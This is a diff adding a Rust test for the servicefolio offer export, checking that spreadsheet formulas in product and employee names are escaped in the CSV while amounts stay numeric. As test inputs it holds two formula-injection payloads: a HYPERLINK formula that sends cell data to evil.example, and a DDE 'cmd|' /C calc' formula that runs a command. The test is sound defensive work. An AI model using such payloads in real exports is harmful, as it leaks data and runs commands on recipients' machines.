@@ -624,3 +624,76 @@ fn the_csv_has_one_row_per_line() {
     assert_eq!(&notebook[column("context")], "Anna Schmidt");
     assert_eq!(&rows[0][column("offer")], "ANG-2026-0001");
 }
+
+#[test]
+fn a_formula_in_a_name_is_written_to_the_csv_as_text_and_amounts_stay_numbers() {
+    use servicefolio::catalog::{item_record, save_item, EditHistory, ItemDraft};
+    use servicefolio::portfolio::ItemRecord;
+    let mut f = fixture();
+    // Names a spreadsheet would run as formulas: a product and an employee.
+    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Notebook\")";
+    let mut record = item_record(f.store.conn(), "NB-LEN-T14G5").unwrap();
+    let ItemRecord::Product(product) = &mut record else {
+        panic!("a product");
+    };
+    product.name = formula.into();
+    save_item(
+        &mut f.store,
+        &mut EditHistory::default(),
+        &ItemDraft {
+            original_code: Some("NB-LEN-T14G5".into()),
+            record,
+        },
+    )
+    .unwrap();
+    let anna = f.employees[0];
+    f.store
+        .write(|tx| {
+            update_employee(
+                tx,
+                anna,
+                &EmployeeRecord {
+                    name: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
+                    ..Default::default()
+                },
+            )
+        })
+        .unwrap();
+    let requests = vec![managed365(&f), notebooks(&f, 2)];
+    let o = create(&mut f, requests);
+
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("offer.csv");
+    export_offer_to(f.store.conn(), o.id, OfferExportFormat::Csv, &path).unwrap();
+    let mut reader = csv::Reader::from_path(&path).unwrap();
+    let headers = reader.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    let notebook = rows
+        .iter()
+        .find(|r| &r[column("item_code")] == "NB-LEN-T14G5")
+        .unwrap();
+    assert_eq!(&notebook[column("description")], format!("'{formula}"));
+    assert_eq!(&notebook[column("context")], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    // The numeric columns are the numbers, unescaped.
+    assert_eq!(&notebook[column("quantity")], "2");
+    assert_eq!(&notebook[column("one_time")], "2498.00");
+    assert_eq!(&notebook[column("unit_one_time")], "1249");
+    for row in &rows {
+        for name in [
+            "version", "position", "quantity", "one_time", "monthly", "tax_rate",
+        ] {
+            assert!(
+                Decimal::from_str(&row[column(name)]).is_ok(),
+                "{name}: {:?}",
+                &row[column(name)]
+            );
+        }
+    }
+    // Text that starts harmlessly is left as it is.
+    let m365 = rows
+        .iter()
+        .find(|r| &r[column("item_code")] == "SVC-M365")
+        .unwrap();
+    assert!(!m365[column("description")].starts_with('\''));
+}
